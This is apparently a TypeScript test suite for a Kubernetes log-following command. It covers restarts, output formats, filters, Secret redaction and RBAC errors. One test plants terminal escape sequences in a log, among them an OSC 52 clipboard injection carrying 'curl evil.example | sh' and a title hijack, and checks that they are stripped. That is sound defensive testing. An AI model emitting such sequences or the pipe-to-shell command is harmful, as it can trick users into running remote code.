// `logs.ts [APP]` as a user runs it (the fixture namespace's script, the same command as
// `just logs NS`), on sim: the app's container restarts and its pod is replaced while the
// command follows, and every line shows up once, in order; --previous, -o json,
// --include/--exclude and the errors a user can cause.
import assert from 'node:assert/strict'
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, it } from 'node:test'
import {
  KubeConfig,
  PatchStrategy,
  RbacAuthorizationV1Api,
  setHeaderOptions,
  type V1Deployment,
  type V1Pod,
} from '@kubernetes/client-node'
import {
  appendContainerLog,
  currentLink,
  currentRun,
  type ContainerRef,
} from '../../shared/cluster/sim/container-logs.ts'
import type { Kube } from '../../shared/kube/client.ts'
import { repoRoot } from '../../shared/core/paths.ts'
import { testCluster, testNamespace, type TestCluster } from '../harness.ts'
import { until } from '../until.ts'

const script = path.join(repoRoot, 'test/fixtures/logs-ns/logs.ts')

function app(name: string): V1Deployment {
  const labels = { 'app.kubernetes.io/name': name }
  return {
    metadata: { name },
    spec: {
      replicas: 1,
      selector: { matchLabels: labels },
      template: {
        metadata: { labels },
        spec: {
          containers: [
            {
              name,
              image: `example/${name}:1`,
              ports: [{ containerPort: 80 }],
              readinessProbe: { httpGet: { path: '/ready', port: 80 } },
            },
          ],
        },
      },
    },
  }
}

interface Run {
  child: ChildProcessWithoutNullStreams
  out: () => string[]
  err: () => string
  exit: Promise<number>
}

describe('just logs', { skip: process.env.NSOPS_TEST_CONTEXT ? 'needs the sim cluster' : false }, () => {
  let cluster: TestCluster
  let kube: Kube
  let ns: { name: string; cleanup: () => Promise<void> }
  const runs: Run[] = []

  const logs = (...args: string[]): Run => logsAs(cluster.kubeconfig, ...args)
  const rbac = () => kube.kc.makeApiClient(RbacAuthorizationV1Api)
  const logsAs = (kubeconfig: string, ...args: string[]): Run => {
    const child = spawn(script, args, {
      env: {
        ...process.env,
        NSOPS_KUBECONFIG: kubeconfig,
        NSOPS_TEST_LOGS_NS: ns.name,
        NO_COLOR: '1',
        CI: '1',
      },
    })
    let out = ''
    let err = ''
    child.stdout.on('data', (d) => {
      out += d
    })
    child.stderr.on('data', (d) => {
      err += d
    })
    const exit = new Promise<number>((resolve) => child.on('exit', (code, sig) => resolve(code ?? (sig ? 128 : 1))))
    const run = { child, out: () => out.split('\n').filter(Boolean), err: () => err, exit }
    runs.push(run)
    return run
  }
  const podOf = (name: string, not?: string) =>
    until(`a running pod of ${name}`, async () => {
      const pods = await kube.core.listNamespacedPod({
        namespace: ns.name,
        labelSelector: `app.kubernetes.io/name=${name}`,
      })
      return pods.items.find((p) => p.status?.podIP && !p.metadata?.deletionTimestamp && p.metadata?.name !== not)
    })
  const ref = (pod: V1Pod): ContainerRef => ({
    namespace: ns.name,
    pod: pod.metadata!.name!,
    uid: pod.metadata!.uid!,
    container: pod.spec!.containers[0].name,
  })
  const write = (pod: V1Pod, lines: string[]) => appendContainerLog(cluster.sim!.podLogRoot, ref(pod), lines)
  const restart = async (pod: V1Pod, restarts: number) => {
    await kube.core.patchNamespacedPodStatus(
      {
        namespace: ns.name,
        name: pod.metadata!.name!,
        body: [{ op: 'replace', path: '/status/containerStatuses/0/restartCount', value: restarts }],
      },
      setHeaderOptions('Content-Type', PatchStrategy.JsonPatch),
    )
    await until('the new run to have its log', async () => currentRun(cluster.sim!.podLogRoot, ref(pod)) === restarts)
  }
  const seen = (run: Run, line: string) =>
    until(`${JSON.stringify(line)} in the output`, async () => run.out().some((l) => l.endsWith(line)))
  const nLines = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => `n=${from + i}`)

  before(async () => {
    cluster = await testCluster()
    kube = cluster.kube
    ns = await testNamespace('logs')
    await kube.apps.createNamespacedDeployment({ namespace: ns.name, body: app('web') })
    await kube.apps.createNamespacedDeployment({ namespace: ns.name, body: app('other') })
  })

  after(async () => {
    for (const r of runs) r.child.kill('SIGKILL')
    await ns?.cleanup()
  })

  it('follows a container restart and a replaced pod without a duplicate or lost line', async () => {
    const pod = await podOf('web')
    await podOf('other')
    const run = logs('web')
    await seen(run, 'ready')
    write(pod, nLines(1, 20))
    // the restart right after the old run's last lines: those arrive on the old stream or
    // through the read of the previous run, never twice
    await restart(pod, 1)
    await seen(run, `starting example/web:1 as container web of pod ${ns.name}/${pod.metadata!.name} (restart 1)`)
    write(pod, nLines(21, 40))
    await seen(run, 'n=40')
    await restart(pod, 2)
    write(pod, nLines(41, 45))
    await seen(run, 'n=45')

    const out = run.out()
    const numbered = out.filter((l) => /^n=\d+$/.test(l))
    assert.deepEqual(numbered, nLines(1, 45), 'every line once, in order, and nothing from the other app')
    assert.equal(out.filter((l) => l === 'ready').length, 3, 'the start lines of each of the three runs once')
    assert.ok(
      out.every((l) => !l.includes(' web ') || l.startsWith('starting')),
      'one pod, one container: no prefix',
    )

    await kube.core.deleteNamespacedPod({ namespace: ns.name, name: pod.metadata!.name!, gracePeriodSeconds: 0 })
    const next = await podOf('web', pod.metadata!.name!)
    await seen(run, `starting example/web:1 as container web of pod ${ns.name}/${next.metadata!.name}`)
    write(next, ['after the replacement'])
    await seen(run, 'after the replacement')
    assert.equal(run.out().filter((l) => l.endsWith('after the replacement')).length, 1)
    run.child.kill('SIGINT')
    assert.equal(await run.exit, 130, 'Ctrl-C ends it with 130')
  })

  it('--previous prints the previous run of each container and exits', async () => {
    const pod = await podOf('web')
    write(pod, ['run 0 says goodbye'])
    await restart(pod, 1)
    write(pod, ['run 1 is current'])
    const run = logs('web', '--previous')
    assert.equal(await run.exit, 0, run.err())
    const out = run.out()
    assert.ok(out.includes('run 0 says goodbye'), out.join('\n'))
    assert.ok(!out.includes('run 1 is current'))
    assert.match(out[0], /^starting example\/web:1 as container web of pod /, 'the previous run from its start')
  })

  it('--previous without a restart says there is nothing to show', async () => {
    const run = logs('other', '--previous')
    assert.equal(await run.exit, 1)
    assert.match(run.err(), /no previous run to show in .* for other: container other of pod .* has not restarted/)
    assert.match(run.err(), /hint: A container has a previous run once it has restarted/)
  })

  // The API answers a follow with the container's first line to send: with nothing newer than
  // --since, the request for a run has no answer until the container prints again
  const quiet = (pod: V1Pod) =>
    until(
      `nothing in the last second of ${pod.metadata!.name}'s log`,
      async () => Date.now() - fs.statSync(currentLink(cluster.sim!.podLogRoot, ref(pod))).mtimeMs > 2500,
    )

  it('a container that restarts while its follow has no answer yet (nothing newer than --since) is followed in its new run', async () => {
    const pod = await podOf('web')
    write(pod, ['said before --since'])
    await quiet(pod)
    const run = logs('web', '--since', '1s')
    await until('web followed', async () => run.err().includes(`+ ${pod.metadata!.name} web`))
    const restarts = (pod.status!.containerStatuses![0].restartCount ?? 0) + 1
    await restart(pod, restarts)
    await seen(
      run,
      `starting example/web:1 as container web of pod ${ns.name}/${pod.metadata!.name} (restart ${restarts})`,
    )
    write(pod, ['the new run speaks'])
    await seen(run, 'the new run speaks')
    run.child.kill('SIGINT')
    assert.equal(await run.exit, 130)
    // the replaced run had nothing to show within --since: it is not read whole either
    assert.ok(!run.out().includes('said before --since'), run.out().join('\n'))
  })

  it('Ctrl-C ends a follow the API has not answered yet', async () => {
    const pod = await podOf('other')
    await quiet(pod)
    const run = logs('other', '--since', '1s')
    await until('other followed', async () => run.err().includes(`+ ${pod.metadata!.name} other`))
    run.child.kill('SIGINT')
    const code = await until('the command to end after Ctrl-C', async () => run.child.exitCode ?? undefined, 15_000)
    assert.equal(code, 130, run.err())
    assert.deepEqual(run.out(), [])
  })

  it('-o json prints JSON lines {ts, pod, container, line}, prefixed by nothing, for every pod of the namespace', async () => {
    const [web, other] = [await podOf('web'), await podOf('other')]
    const run = logs('-o', 'json', '--tail', '2')
    // a command that ended early (a cluster slow to answer) is named, with what it printed
    await until('two lines of each pod', async () => {
      if (run.child.exitCode !== null) throw new Error(`logs exited ${run.child.exitCode}`)
      return run.out().length >= 4
    }).catch((err: Error) => {
      throw new Error(`${err.message}; stdout:\n${run.out().join('\n')}\nstderr:\n${run.err()}`, { cause: err })
    })
    write(other, ['from other'])
    await until('the new line', async () => run.out().some((l) => l.includes('from other')))
    run.child.kill('SIGINT')
    await run.exit
    const docs = run.out().map((l) => JSON.parse(l) as Record<string, string>)
    for (const d of docs) {
      assert.deepEqual(Object.keys(d), ['ts', 'pod', 'container', 'line'])
      assert.match(d.ts, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/)
    }
    assert.deepEqual(new Set(docs.map((d) => d.pod)), new Set([web.metadata!.name, other.metadata!.name]))
    assert.equal(docs.filter((d) => d.pod === web.metadata!.name).length, 2, '--tail 2 of the web container')
    assert.deepEqual(docs.at(-1), {
      ts: docs.at(-1)!.ts,
      pod: other.metadata!.name,
      container: 'other',
      line: 'from other',
    })
  })

  it('--tail 0 shows no line written before, only what comes after (as kubectl logs -f --tail 0 and stern)', async () => {
    const other = await podOf('other')
    write(other, ['before the follow'])
    const run = logs('other', '--tail', '0')
    await until('other followed', async () => run.err().includes(`+ ${other.metadata!.name} other`))
    // a line written between the attach and the kubelet's answer is not shown: write until one is
    let n = 0
    await until('a line written after the follow began', async () => {
      write(other, [`after ${++n}`])
      return run.out().length > 0
    })
    run.child.kill('SIGINT')
    await run.exit
    assert.ok(
      run.out().every((l) => /^after \d+$/.test(l)),
      `only lines written after: ${JSON.stringify(run.out())}`,
    )
  })

  it('text output prefixes pod and container when several pods are followed', async () => {
    const other = await podOf('other')
    const run = logs('--since', '1h')
    write(other, ['prefixed line'])
    await seen(run, 'prefixed line')
    run.child.kill('SIGINT')
    await run.exit
    assert.ok(run.out().includes(`${other.metadata!.name} other prefixed line`), run.out().join('\n'))
  })

  it('--include and --exclude (repeatable) keep only the wanted lines', async () => {
    const pod = await podOf('other')
    write(pod, ['GET /api 200', 'GET /api 500', 'GET /ready 200', 'POST /api 201', 'noise'])
    const run = logs('other', '--include', '^GET', '--include', '^POST', '--exclude', '/ready', '--exclude', ' 500$')
    await seen(run, 'POST /api 201')
    run.child.kill('SIGINT')
    await run.exit
    assert.deepEqual(run.out(), ['GET /api 200', 'POST /api 201'])
  })

  it("scrubs the namespace's Secret values from every line: as they are, base64-encoded and JSON-escaped", async () => {
    const value = 'p@ss"word-42xyz'
    await kube.core.createNamespacedSecret({
      namespace: ns.name,
      body: { metadata: { name: 'creds' }, stringData: { password: value } },
    })
    try {
      const pod = await podOf('other')
      const run = logs('other', '--since', '1h')
      write(pod, [
        `raw ${value} end`,
        `b64 ${Buffer.from(value).toString('base64')} end`,
        `json ${JSON.stringify({ pw: value })} end`,
        'scrub done',
      ])
      await seen(run, 'scrub done')
      run.child.kill('SIGINT')
      await run.exit
      const out = run.out().join('\n')
      assert.match(out, /^raw \[redacted\] end$/m)
      assert.match(out, /^b64 \[redacted\] end$/m)
      assert.match(out, /^json \{"pw":"\[redacted\]"\} end$/m)
      assert.doesNotMatch(out, /p@ss|cEBzcyJ3b3Jk/)
    } finally {
      await kube.core.deleteNamespacedSecret({ name: 'creds', namespace: ns.name })
    }
  })

  it('says so and shows nothing when the Secrets cannot be read; --unscrubbed shows the lines, with a warning', async () => {
    // a ServiceAccount that may read pods and their logs, not Secrets
    const sa = 'logs-reader'
    await kube.core.createNamespacedServiceAccount({ namespace: ns.name, body: { metadata: { name: sa } } })
    await rbac().createNamespacedRole({
      namespace: ns.name,
      body: {
        metadata: { name: sa },
        rules: [{ apiGroups: [''], resources: ['pods', 'pods/log'], verbs: ['get', 'list', 'watch'] }],
      },
    })
    await rbac().createNamespacedRoleBinding({
      namespace: ns.name,
      body: {
        metadata: { name: sa },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: sa },
        subjects: [{ kind: 'ServiceAccount', name: sa, namespace: ns.name }],
      },
    })
    const clusterRole = `${ns.name}-${sa}`
    await rbac().createClusterRole({
      body: {
        metadata: { name: clusterRole },
        rules: [{ apiGroups: [''], resources: ['namespaces'], verbs: ['get'] }],
      },
    })
    await rbac().createClusterRoleBinding({
      body: {
        metadata: { name: clusterRole },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: clusterRole },
        subjects: [{ kind: 'ServiceAccount', name: sa, namespace: ns.name }],
      },
    })
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nsops-logs-reader-'))
    try {
      const token = await kube.core.createNamespacedServiceAccountToken({
        name: sa,
        namespace: ns.name,
        body: { spec: { audiences: [], expirationSeconds: 3600 } },
      })
      const admin = new KubeConfig()
      admin.loadFromFile(cluster.kubeconfig)
      const c = admin.getCurrentCluster()!
      const kc = new KubeConfig()
      kc.loadFromOptions({
        clusters: [{ ...c }],
        users: [{ name: sa, token: token.status!.token }],
        contexts: [{ name: sa, cluster: c.name, user: sa }],
        currentContext: sa,
      })
      const file = path.join(dir, 'kubeconfig')
      fs.writeFileSync(file, kc.exportConfig())
      const refused = logsAs(file, 'other', '--since', '1h')
      assert.equal(await refused.exit, 1, refused.err())
      assert.match(
        refused.err(),
        new RegExp(
          `the Secrets of ${ns.name} cannot be read \\(not allowed to list them \\(403\\)\\), so their values could not be scrubbed from the logs\\. No line was shown`,
        ),
      )
      assert.match(refused.err(), /--unscrubbed/)
      assert.deepEqual(refused.out(), [])

      const pod = await podOf('other')
      const shown = logsAs(file, 'other', '--since', '1h', '--unscrubbed')
      write(pod, ['unscrubbed line'])
      await seen(shown, 'unscrubbed line')
      shown.child.kill('SIGINT')
      await shown.exit
      assert.match(shown.err(), /cannot be read .*: lines are shown as they are \(--unscrubbed\)/)
    } finally {
      fs.rmSync(dir, { recursive: true, force: true })
      await rbac().deleteClusterRoleBinding({ name: clusterRole })
      await rbac().deleteClusterRole({ name: clusterRole })
    }
  })

  it('prints container output without the terminal control sequences it carries (colours kept), and cuts a line past 8192 characters', async () => {
    const pod = await podOf('other')
    const run = logs('other', '--since', '1h')
    const clipboard = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`
    write(pod, [
      `before${clipboard}after osc52`,
      '\x1b]0;pwned title\x1b\\title gone',
      '\x1b[2J\x1b[Hscreen kept\x1b[?1049h',
      'over\rwritten',
      '\x1b[31mred stays red\x1b[0m',
      `long ${'x'.repeat(50_000)}`,
      'controls done',
    ])
    await seen(run, 'controls done')
    run.child.kill('SIGINT')
    await run.exit
    const out = run.out()
    assert.ok(out.includes('beforeafter osc52'), out.join('\n').slice(0, 2000))
    assert.ok(out.includes('title gone'))
    assert.ok(out.includes('screen kept'))
    assert.ok(out.includes('overwritten'))
    assert.ok(out.includes('\x1b[31mred stays red\x1b[0m'), 'SGR colours are kept')
    const all = out.join('\n')
    assert.doesNotMatch(all, /\x1b\]|\x07|\x1b\[2J|\x1b\[\?1049h|\r/)
    const long = out.find((l) => l.startsWith('long '))!
    assert.ok(long.length < 8300, `the long line is cut (${long.length} characters)`)
    assert.ok(long.endsWith('… (line cut at 8192 characters)'), long.slice(-100))
  })

  it('refuses a bad duration, a bad regex and an unknown app with a hint', async () => {
    const cases: [string[], RegExp][] = [
      [['web', '--since', 'soon'], /--since "soon" is not a duration[\s\S]*hint: give it as Go/],
      [['web', '--include', '(('], /--include "\(\(" is not a regular expression[\s\S]*hint:/],
      [['nope'], /logs-fixture has no app "nope"[\s\S]*hint: Its apps: web, other/],
      [['web', '--tail', 'many'], /--tail must be a whole number of lines, not "many"/],
    ]
    for (const [args, want] of cases) {
      const run = logs(...args)
      assert.equal(await run.exit, 1, args.join(' '))
      assert.match(run.err(), want)
      assert.doesNotMatch(run.err(), /\n\s+at /, 'no stack without --debug')
    }
  })
})
